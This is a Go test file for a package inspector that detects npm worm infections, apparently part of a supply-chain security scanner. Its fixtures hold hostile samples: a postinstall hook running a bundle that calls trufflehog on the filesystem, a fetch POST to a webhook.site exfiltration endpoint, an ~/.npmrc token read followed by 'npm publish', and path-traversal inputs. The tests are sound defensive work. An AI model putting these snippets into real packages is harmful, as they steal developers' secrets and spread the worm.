package tarball

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"testing"

	"github.com/xful-bep/crysknife/internal/fetch"
	"github.com/xful-bep/crysknife/internal/intelligence"
)

const bundleJS = `require('child_process').execSync('trufflehog filesystem /');`

func makeTarball(t *testing.T, files map[string]string) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	hasher := sha1.New()
	w := io.MultiWriter(&buf, hasher)
	gzw := gzip.NewWriter(w)
	tw := tar.NewWriter(gzw)

	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	sort.Strings(names)

	for _, name := range names {
		content := files[name]
		hdr := &tar.Header{
			Name:     "package/" + name,
			Mode:     0o644,
			Size:     int64(len(content)),
			Typeflag: tar.TypeReg,
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}

	tw.Close()
	gzw.Close()

	return buf.Bytes(), hex.EncodeToString(hasher.Sum(nil))
}

func serve(t *testing.T, data []byte) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/missing.tgz" {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		_, _ = w.Write(data)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func indicators() intelligence.Indicators {
	sum := sha256.Sum256([]byte(bundleJS))
	return intelligence.Indicators{
		BundleHash:      hex.EncodeToString(sum[:]),
		WebhookEndpoint: "webhook.site/abc-123",
		LifecycleScript: "node bundle.js",
	}
}

func TestInspect_Infected(t *testing.T) {
	data, shasum := makeTarball(t, map[string]string{
		"package.json": `{"name":"x","scripts":{"postinstall":"node bundle.js","test":"jest"}}`,
		"bundle.js":    bundleJS,
		"lib/send.js":  `fetch("https://webhook.site/abc-123", {method: "POST"})`,
		"README.md":    "node bundle.js",
	})
	srv := serve(t, data)

	insp, err := Inspect(context.Background(), fetch.New(0), srv.URL+"/x.tgz", shasum, indicators())
	if err != nil {
		t.Fatalf("Inspect() error = %v", err)
	}
	if insp.Files != 4 || insp.Shasum != shasum {
		t.Errorf("Files = %d, Shasum = %s", insp.Files, insp.Shasum)
	}

	var got []string
	for _, f := range insp.Findings {
		got = append(got, f.String())
	}
	want := []string{
		"Malicious bundle.js hash detected (bundle.js)",
		"Worm behavior: secret scanner executed (bundle.js)",
		"Data exfiltration endpoint referenced (lib/send.js)",
		"Malicious lifecycle script detected (postinstall) (package.json)",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("Findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestInspect_Clean(t *testing.T) {
	data, shasum := makeTarball(t, map[string]string{
		"package.json": `{"name":"x","scripts":{"test":"jest"}}`,
		"index.js":     `module.exports = () => 1;`,
	})
	srv := serve(t, data)

	insp, err := Inspect(context.Background(), fetch.New(0), srv.URL+"/x.tgz", shasum, indicators())
	if err != nil {
		t.Fatalf("Inspect() error = %v", err)
	}
	if len(insp.Findings) != 0 {
		t.Errorf("expected no findings, got %v", insp.Findings)
	}
}

func TestInspect_Errors(t *testing.T) {
	data, _ := makeTarball(t, map[string]string{"index.js": "1"})
	srv := serve(t, data)
	ctx := context.Background()

	_, err := Inspect(ctx, fetch.New(0), srv.URL+"/x.tgz", "0000000000000000000000000000000000000000", indicators())
	var mismatch *ShasumMismatchError
	if !errors.As(err, &mismatch) {
		t.Errorf("expected ShasumMismatchError, got %T: %v", err, err)
	}

	_, err = Inspect(ctx, fetch.New(0), srv.URL+"/missing.tgz", "", indicators())
	if !fetch.IsNotFound(err) {
		t.Errorf("expected 404, got %v", err)
	}

	gzSrv := serve(t, []byte("not gzip data"))
	if _, err := Inspect(ctx, fetch.New(0), gzSrv.URL+"/x.tgz", "", indicators()); err == nil || !strings.Contains(err.Error(), "gzip reader") {
		t.Errorf("expected gzip reader error, got %v", err)
	}
}

func TestCleanPath(t *testing.T) {
	tests := []struct {
		input string
		want  string
	}{
		{"package/index.js", "index.js"},
		{"package/lib/util.js", "lib/util.js"},
		{"../etc/passwd", ""},
		{"package/../../../etc/passwd", ""},
		{"", ""},
		{".", ""},
	}

	for _, tt := range tests {
		if got := cleanPath(tt.input); got != tt.want {
			t.Errorf("cleanPath(%q) = %q, want %q", tt.input, got, tt.want)
		}
	}
}

func TestScanWorm(t *testing.T) {
	content := `
const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
execSync('npm publish');
`
	got := scanWorm(content)
	want := []string{"Worm behavior: npm publish executed", "Worm behavior: npm token theft"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("scanWorm() = %v, want %v", got, want)
	}
	if got := scanWorm(`console.log("npm publish docs")`); len(got) != 0 {
		t.Errorf("expected nothing without a second signal, got %v", got)
	}
}
